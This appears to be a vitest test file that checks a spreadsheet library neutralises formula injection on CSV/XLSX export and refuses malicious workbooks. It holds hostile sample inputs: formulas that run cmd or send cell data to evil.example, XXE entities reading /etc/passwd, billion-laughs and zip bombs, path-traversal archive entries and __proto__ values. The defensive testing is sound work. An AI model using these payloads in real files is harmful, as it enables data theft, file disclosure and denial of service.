import { deflateRawSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { Problem } from '../../../domain/kernel/errors.ts'
import { readXlsx } from '../../../domain/platform/sheet/read-xlsx.ts'
import { writeCsv } from '../../../domain/platform/sheet/write-csv.ts'
import { writeXlsx } from '../../../domain/platform/sheet/write-xlsx.ts'
import { casesOf } from '../../support/cases.ts'
import { isLarge, some } from '../../support/share.ts'
import { all, bookOf, joined, sourceOf, zipOf } from '../../support/sheets.ts'

/** Cells that spreadsheet programs would run, and files that would grow or reach beyond themselves when they are read. */
const cases = casesOf('attacks')

const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫']
const before = ['', ' ', '\u00a0', '\u3000', '\ufeff', '\u200b', '  \t']
const orders = [
  "cmd|' /C calc'!A0",
  '1+1',
  'HYPERLINK("https://evil.example?"&A1)',
  'WEBSERVICE("https://evil.example")',
  'IMPORTXML("https://evil.example","//a")',
]
const formulas = signs.flatMap((sign) => before.map((space, at) => `${space}${sign}${orders[at % orders.length]}`))

async function* rowOf(...cells: string[]) {
  yield cells
}
const runs = /^["]?[\s\ufeff\u200b]*[=+\-@＝＋－＠﹢﹣﹦﹫]/u

describe('a cell', () => {
  test.each(some(formulas, 12))('%j is a text in CSV and in XLSX', async (text) => {
    const csv = (await joined(writeCsv([text], rowOf(text)))).toString('utf8').replace(/^\ufeff/, '')
    const book = await joined(writeXlsx('Sheet', [text], rowOf(text)))
    const cells = (await all(readXlsx(sourceOf(book, 4096)))).flatMap(({ cells: found }) => found)

    await cases.check('formula injection', `CSV ${JSON.stringify(text)}`, () => {
      expect(csv).toMatch(/^"?'/)
      expect(csv.split('\r\n').filter((line) => runs.test(line))).toEqual([])
    })
    await cases.check('formula injection', `XLSX ${JSON.stringify(text)}`, () => {
      expect(cells.length).toBeGreaterThan(0)
      for (const cell of cells) expect(runs.test(cell), cell).toBe(false)
      expect(book.includes(Buffer.from('<f>'))).toBe(false)
    })
  })
})

/** The answer to a file: its rows, or the code of the refusal; what is no refusal of ours is thrown. */
async function readOutcome(book: Buffer): Promise<{ code?: string; text: string }> {
  try {
    const rows: string[] = []
    for await (const { cells } of readXlsx(sourceOf(book, 65_536))) {
      rows.push(cells.join())
      if (rows.length > 2_000_000) throw new Error('The rows have no end.')
    }
    return { text: rows.join('\n') }
  } catch (error) {
    if (error instanceof Problem) return { code: error.code, text: '' }
    throw error
  }
}

const row = (text: string) => `<row><c t="inlineStr"><is><t>${text}</t></is></c></row>`
const laughs = '<!DOCTYPE l [<!ENTITY a "lol">'.concat(
  ...Array.from({ length: 9 }, (_, n) => `<!ENTITY ${'bcdefghij'[n]} "${`&${'abcdefghi'[n]};`.repeat(10)}">`),
  ']>',
)
const ofSize = (file: string, size: number) => (book: Buffer) => {
  const other = Buffer.from(book)
  const at = other.indexOf(Buffer.from(file), other.indexOf(Buffer.from([0x50, 0x4b, 1, 2]))) - 46 + 24
  other.writeUInt32LE(size, at)
  return other
}

const bombs: [name: string, make: () => Promise<Buffer>][] = [
  ['a sheet of 300 MB of one letter', async () => swollen(await bookOf({ s: row('x') }), isLarge ? 300 : 40)],
  ['a sheet that says it is 4 GB', async () => ofSize('xl/worksheets/sheet1.xml', 0xfffffff0)(await bookOf({ s: row('x'.repeat(1000)) }))],
  ['a sheet that says it is one byte', async () => ofSize('xl/worksheets/sheet1.xml', 1)(await bookOf({ s: row('x'.repeat(100_000)) }))],
  ['a billion laughs', () => bookOf({ s: `${laughs}${row('&j;')}` })],
  ['an entity from a file', () => bookOf({ s: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${row('&e;')}` })],
  ['an entity from the network', () => bookOf({ s: `<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x">${row('&e;')}` })],
  ['a parameter entity', () => bookOf({ s: `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>${row('x')}` })],
  ['texts that are defined in a loop', () => bookOf({ s: row('&#x26;#x26;amp;') })],
  ['100,000 levels of XML', () => bookOf({ s: '<a>'.repeat(100_000) })],
  ['a tag without an end', () => bookOf({ s: `<c ${'a="b" '.repeat(200_000)}` })],
  ['an attribute of a megabyte', () => bookOf({ s: `<row r="${'1'.repeat(1_200_000)}"/>` })],
  ['the last column there is', () => bookOf({ s: '<row><c r="XFD1"><v>1</v></c></row>' })],
  ['a column beyond the last', () => bookOf({ s: '<row><c r="ZZZZZZZ1"><v>1</v></c></row>' })],
  ['the last row there is, and one beyond', () => bookOf({ s: '<row r="1048576"/><row r="99999999999999999999"/>' })],
  ['a row below nought', () => bookOf({ s: '<row r="-1"><c r="A-1"><v>1</v></c></row>' })],
  [
    'a text that is not among the shared ones',
    () => bookOf({ s: '<row><c t="s"><v>99999999</v></c></row>' }, { texts: '<si><t>x</t></si>' }),
  ],
  ['a text before the first shared one', () => bookOf({ s: '<row><c t="s"><v>-1</v></c></row>' }, { texts: '<si><t>x</t></si>' })],
  ['a style that there is not', () => bookOf({ s: '<row><c s="999999"><v>1</v></c></row>' })],
  ['a style called as what is inherited', () => bookOf({ s: '<row><c s="constructor"><v>1</v></c></row>' })],
  ['a type called as what is inherited', () => bookOf({ s: '<row><c t="__proto__"><v>1</v></c></row>' })],
  ['a number without end', () => bookOf({ s: `<row><c><v>${'9'.repeat(400_000)}</v></c></row>` })],
  ['a number as an exponent', () => bookOf({ s: '<row><c><v>1e999999999</v></c></row>' })],
  ['a file outside of the archive', () => zipOf({ '../../../../tmp/x': 'x', 'xl/workbook.xml': '<workbook/>' })],
  ['a sheet outside of the archive', () => bookWithTarget('../../../../etc/passwd')],
  ['a sheet on the network', () => bookWithTarget('http://127.0.0.1:9/sheet.xml')],
  ['a sheet that is the workbook itself', () => bookWithTarget('workbook.xml')],
  [
    'an archive in an archive',
    async () => zipOf({ 'xl/workbook.xml': (await zipOf({ 'a.xml': 'x'.repeat(100_000) })).toString('latin1') }),
  ],
  ['10,000 files', () => zipOf(Object.fromEntries(Array.from({ length: isLarge ? 10_000 : 500 }, (_, n) => [`a${n}.xml`, ''])))],
  ['a directory that points at itself', async () => pointed(await bookOf({ s: row('x') }), 0xffffffff)],
  ['a directory that begins at its end', async () => pointed(await bookOf({ s: row('x') }), 0)],
  ['nothing but an end', async () => Buffer.from([0x50, 0x4b, 5, 6, ...Array(18).fill(0)])],
  ['noise', async () => Buffer.from(Array.from({ length: 5000 }, (_, n) => (n * 7919) % 256))],
]

const bookWithTarget = (target: string) =>
  zipOf({
    'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="rId1" Target="${target}"/></Relationships>`,
  })

/** The book with a directory that is said to begin elsewhere. */
function pointed(book: Buffer, at: number): Buffer {
  const other = Buffer.from(book)
  other.writeUInt32LE(at, other.lastIndexOf(Buffer.from([0x50, 0x4b, 5, 6])) + 16)
  return other
}

/** The book with a sheet that unpacks to so many megabytes, and says that it is small. */
function swollen(book: Buffer, megabytes: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(megabytes * 1024 * 1024, 0x41))
  const name = Buffer.from('xl/worksheets/sheet1.xml')
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(1000, 22)
  local.writeUInt16LE(name.length, 26)
  const directory = Buffer.from(
    book.subarray(book.indexOf(Buffer.from([0x50, 0x4b, 1, 2])), book.lastIndexOf(Buffer.from([0x50, 0x4b, 5, 6]))),
  )
  const start = book.indexOf(Buffer.from([0x50, 0x4b, 1, 2]))
  const entry = directory.indexOf(name) - 46
  directory.writeUInt16LE(8, entry + 10)
  directory.writeUInt32LE(packed.length, entry + 20)
  directory.writeUInt32LE(1000, entry + 24)
  directory.writeUInt32LE(start, entry + 42)
  const added = Buffer.concat([local, name, packed])
  return pointed(Buffer.concat([book.subarray(0, start), added, directory, book.subarray(start + directory.length)]), start + added.length)
}

describe('a file of sheets with', () => {
  test.each(some(bombs, 32))('%s is read within bounds, or refused', async (name, make) => {
    const book = await make()
    const begun = process.memoryUsage().rss
    await cases.check('bombs in files', name, async () => {
      const { code, text } = await readOutcome(book)
      if (code) expect(code).toMatch(/^import\./)
      expect(text.length).toBeLessThan(20_000_000)
      expect(text).not.toMatch(/root:|native code/)
      expect(process.memoryUsage().rss - begun).toBeLessThan(400 * 1024 * 1024)
    })
  })
})
